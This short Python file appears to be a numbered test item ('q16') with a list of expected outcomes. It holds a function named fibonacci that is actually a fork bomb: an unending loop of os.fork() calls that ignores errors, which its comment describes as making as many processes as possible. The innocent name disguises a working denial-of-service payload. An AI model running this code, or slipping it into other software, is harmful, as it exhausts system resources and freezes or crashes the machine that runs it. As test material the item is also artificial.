# q16: as many processes as there can be, each of which makes more
# says: in time|not an answer|out of turn|process died|fibonacci
import os


def fibonacci(n=20):
    while n:
        try:
            os.fork()
        except OSError:
            pass
    return fibonacci(n - 1)
